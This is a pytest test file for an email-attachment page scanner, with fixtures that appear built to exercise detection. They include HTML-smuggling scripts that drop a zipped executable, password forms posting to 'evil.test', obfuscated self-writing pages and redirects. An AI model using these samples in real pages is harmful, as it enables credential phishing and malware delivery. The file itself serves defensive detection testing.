"""Pages that make files, ask for passwords, lead elsewhere or hide themselves; and those that do not."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.scanning.test_archives import zipped
from tests.support.scanned import attached, found

from outgate.scanning import pages
from outgate.scanning.pages import Pages

OWN = frozenset(("alpha.example",))
ARCHIVE = base64.b64encode(zipped(("a.exe", b"MZ" + bytes(range(256)) * 9), method=0)).decode()
SAVE = (
    "var u=URL.createObjectURL(new Blob([b]));var a=document.createElement('a');a.href=u;a.download='x.zip';a.click()"
)


def page(octets: str | bytes, name: str = "a.html") -> set[tuple[str, int]]:
    octets = octets.encode() if isinstance(octets, str) else octets
    return {(finding.name, finding.weight) for finding in found(Pages(), attached((name, octets)), OWN)}


def body(text: str) -> set[tuple[str, int]]:
    return {(finding.name, finding.weight) for finding in found(Pages(), attached(page=text), OWN)}


def script(text: str) -> str:
    return f"<html><body><script>{text}</script></body></html>"


HALVES = f"'{ARCHIVE[:700]}' +\n '{ARCHIVE[700:]}'"
NUMBERS = "[" + ",".join(str(octet) for octet in base64.b64decode(ARCHIVE)) + ",0]"
OPAQUE = base64.b64encode(bytes(range(7, 256, 3)) * 90).decode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (script(f"var b=atob('{ARCHIVE}');{SAVE}"), {("page-makes-file", 95)}),
        (script(f"var b=atob({HALVES});{SAVE}"), {("page-makes-file", 95)}),
        (script(f"var b=new Uint8Array({NUMBERS});{SAVE}"), {("page-makes-file", 95)}),
        (script(f"var b='{base64.b64decode(ARCHIVE).hex()}';{SAVE}"), {("page-makes-file", 95)}),
        (script(f"navigator.msSaveBlob(new Blob([atob('{ARCHIVE}')]),'x')"), {("page-makes-file", 95)}),
        (script(f"var b=x(atob('{OPAQUE}'));{SAVE}"), {("page-makes-file", 85)}),
        (f"<body onload=\"b=atob('{ARCHIVE}');{SAVE.replace(chr(39), '&#39;')}\">", {("page-makes-file", 95)}),
        (f"<a download=x.zip href='data:application/zip;base64,{ARCHIVE}'>open</a>", {("page-makes-file", 95)}),
        (f"<a href='data:application/zip;base64,{ARCHIVE}'>open</a>", {("file-in-link", 75)}),
        # a library that can save what somebody has drawn
        (script(SAVE + ";f(a,b);" * 9_000 + f"var font='{OPAQUE}'; atob(font)"), {("page-makes-file", 50)}),
        (script(f"var logo='data:image/png;base64,{base64.b64encode(b'%PNG' * 900).decode()}'"), set()),
        (script("var table=[1,2,3]; draw(table)"), set()),
    ],
    ids=lambda value: None if isinstance(value, set) else "page",
)
def test_files_that_a_page_makes(text: str, expected: set[tuple[str, int]]) -> None:
    assert page(text) == expected
    assert page(text.encode("utf-16"), "a.htm") == expected


PASSWORD = "<form action='{}'><input type=password name=p></form>"
SAVED = "".join(f"<a href='https://news.test/{number}'>x</a>" for number in range(5))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (PASSWORD.format("https://evil.test/p.php"), {("password-form", 90)}),
        (PASSWORD.format("https://intra.alpha.example/"), {("password-form", 30)}),
        (PASSWORD.format("/login"), {("password-form", 60)}),
        (PASSWORD.format("") + "<script>fetch('https://evil.test')</script>", {("password-form", 85)}),
        (PASSWORD.format("https://www.news.test/login") + SAVED, {("password-form", 50)}),
        (PASSWORD.format("https://evil.test/p.php") + SAVED, {("password-form", 90)}),
        ("<form action='https://shop.test/'><input name=q></form>", set()),
    ],
)
def test_passwords(text: str, expected: set[tuple[str, int]]) -> None:
    assert page(text) == expected


def test_passwords_in_a_text() -> None:
    assert body(PASSWORD.format("https://evil.test/p.php")) == {("password-form", 90)}
    assert body("<p>hello <a href='https://x.test/'>x</a>") == set()


HIDDEN = PASSWORD.format("https://evil.test/p.php") + "<p>sign in</p>" * 40
ESCAPED = "".join(f"%{octet:02x}" for octet in HIDDEN.encode())


@pytest.mark.parametrize(
    "text",
    [
        script(f"document.write(atob('{base64.b64encode(HIDDEN.encode()).decode()}'))"),
        script(f"document.write(unescape('{ESCAPED}'))"),
        script(f"x.innerHTML=new TextDecoder().decode(new Uint8Array([{','.join(map(str, HIDDEN.encode()))},32]))"),
    ],
    ids=["base64", "percent", "numbers"],
)
def test_pages_that_hide_themselves(text: str) -> None:
    assert page(text) == {("page-hides-itself", 75), ("password-form", 90)}


def test_pages_in_links() -> None:
    inner = base64.b64encode(HIDDEN.encode()).decode()
    assert page(f"<iframe src='data:text/html;base64,{inner}'></iframe>") == {
        ("page-in-link", 75),
        ("password-form", 90),
    }
    assert page("<a href='data:text/html,%3Chtml%3E%3Cp%3Ex'>x</a>") == {("page-in-link", 75)}
    assert page("<img src='data:image/png;base64,iVBORw0KGgo='>") == set()


@pytest.mark.parametrize(
    ("text", "weight"),
    [
        ("<meta http-equiv=refresh content='0; url=https://evil.test/x'>", 75),
        ("<meta http-equiv=Refresh content=\"1;URL='https://evil.test/x'\">loading", 75),
        (script("window.location.href = 'https://evil.test/x'"), 75),
        (script("location.replace(atob('aHR0cHM6Ly9l'))"), 75),
        (script("location = 'https://intra.alpha.example/'"), 0),
        ("<p>" + "words " * 100 + script("location = 'https://evil.test/'"), 0),
        ("<meta http-equiv=refresh content=30>", 0),
    ],
)
def test_pages_that_lead_elsewhere(text: str, weight: int) -> None:
    assert page(text) == ({("page-leads-elsewhere", weight)} if weight else set())
    assert body(text) == set()


def test_pictures_with_scripts() -> None:
    picture = "<svg xmlns='http://www.w3.org/2000/svg'>{}<text>a</text></svg>"
    assert page(picture.format("<script>location='https://evil.test/'</script>"), "a.svg") >= {("svg-with-script", 85)}
    assert page(picture.format("<script>zoom(1)</script>"), "a.svg") == {("svg-with-script", 60)}
    assert page(picture.format(""), "a.svg") == set()


def test_more_than_is_looked_at_is_never_clean(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pages, "PAGES_MAX", 1_000)
    assert page("<p>" + "x" * 1_000) == {("page-too-large", 100)}


@pytest.mark.parametrize(
    "text",
    [
        script("[" * 300_000),
        script("[1," * 100_000),
        script("'%41" * 100_000),
        script(".%41" * 100_000),
        script("'+" * 200_000),
        script(("a" * (pages.LITERAL_CHARACTERS - 1) + " ") * 1_000),
        script(("9," * 199 + "x[") * 1_000),
        script("location = " * 50_000),
        "<meta http-equiv=refresh content='" + " " * 300_000 + "'>",
        f'<iframe srcdoc="{"<iframe srcdoc=" * 20_000}">',
        "<a href='data:;;;;;;;;;;;;'>" * 20_000,
        "<form>" * 100_000 + "<input type=password>",
    ],
    ids=lambda _: "page",
)
def test_made_pages_cost_little(text: str) -> None:
    page(text)


@given(st.text(alphabet="<>a/ =\"'!-scriptyle&;#?[],0%41{}()+\n", max_size=300))
def test_any_page(text: str) -> None:
    page(script(text) + text)
